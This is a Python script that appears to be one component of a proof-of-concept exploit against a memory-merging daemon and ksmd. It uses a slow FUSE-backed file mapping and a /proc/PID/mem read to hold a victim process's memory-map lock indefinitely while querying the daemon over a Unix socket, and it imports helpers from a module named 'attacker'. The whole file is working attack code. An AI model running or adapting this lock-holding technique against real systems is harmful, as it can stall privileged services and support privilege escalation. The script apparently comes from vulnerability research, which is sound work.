"""Asks the daemon which of its memory is worth merging (`ranges`), and holds the lock of its memory map meanwhile.

    ask_ranges.py UID PLACE FUSE SOCKET

UID, PLACE and FUSE are those of hold_lock.py. A process with 384 MiB connects to the socket; its child, which holds the connection,
asks at the line `ask` of the standard input. At the line `lock` the lock is held for ever, as by hold_lock.py. Each last line of an
answer is added to the file `answers` in PLACE. The PID of the process is printed once its memory is there. All ends with the
standard input.

The process has no mergeable memory: ksmd must not wait for its lock.
"""

import ctypes
import os
import signal
import socket
import struct
import sys
import time

from attacker import PAGE, become, die_with_parent, libc, memory
from slow_file import mount_in_namespace, open_slow_file

SIZE = 384 << 20


def asker(peer, ask, place):
    """Has the connection of its parent, whose PID the daemon knows."""
    die_with_parent()
    answers = peer.makefile()
    with open(os.path.join(place, "answers"), "a") as out:
        while os.read(ask, 1):
            peer.sendall(b"ranges\n")
            line = "range "
            while line.startswith("range "):
                line = answers.readline()
            out.write(line or "closed\n")
            out.flush()


def victim(path, place, file, told, ask, lock):
    peer = socket.socket(socket.AF_UNIX)
    peer.connect(path)
    if os.fork() == 0:
        asker(peer, ask, place)
        os._exit(0)
    ctypes.memset(ctypes.c_void_p(memory(SIZE)), 1, SIZE)
    address = libc.mmap(None, PAGE, 1, 1, file, 0)
    os.write(told, struct.pack("<Q", address))
    os.read(lock, 1)
    memory(PAGE)
    signal.pause()


def holder(pid, address, hold):
    os.read(hold, 1)
    os.pread(os.open(f"/proc/{pid}/mem", os.O_RDONLY), 1, address)


def child(fuse, work):
    """Forks a child that ends with this process. None may have the server's descriptor open."""
    pid = os.fork()
    if pid:
        return pid
    try:
        die_with_parent()
        os.close(fuse)
        work()
    finally:
        os._exit(1)


def waits(pid, address=None):
    """Waits in the kernel: for a page, if its address is told."""
    with open(f"/proc/{pid}/stat") as file:
        state = file.read().rsplit(")", 1)[1].split()[0]
    if state in "ZX":
        sys.exit("the attack has failed")
    if address is None:
        return state == "D"
    with open(f"/proc/{pid}/syscall") as file:
        return hex(address) in file.read().split() and state in "SD"


def main():
    user, place, device, path = int(sys.argv[1]), *sys.argv[2:5]
    become(user)
    fuse, slow = mount_in_namespace(place, device)
    file = open_slow_file(fuse, slow)
    told, tell = os.pipe()
    ask, asks = os.pipe()
    lock, locks = os.pipe()
    hold, holds = os.pipe()
    first = child(fuse, lambda: victim(path, place, file, tell, ask, lock))
    (address,) = struct.unpack("<Q", os.read(told, 8))
    second = child(fuse, lambda: holder(first, address, hold))
    print(first, flush=True)
    for line in sys.stdin:
        if line.strip() == "ask":
            os.write(asks, b"x")
        elif line.strip() == "lock":
            os.write(holds, b"x")
            while not waits(second, address):
                time.sleep(0.0001)
            os.write(locks, b"x")
            while not waits(first):
                time.sleep(0.0001)
    # The file system ends with its server, and so does each wait.
    os._exit(0)


main()
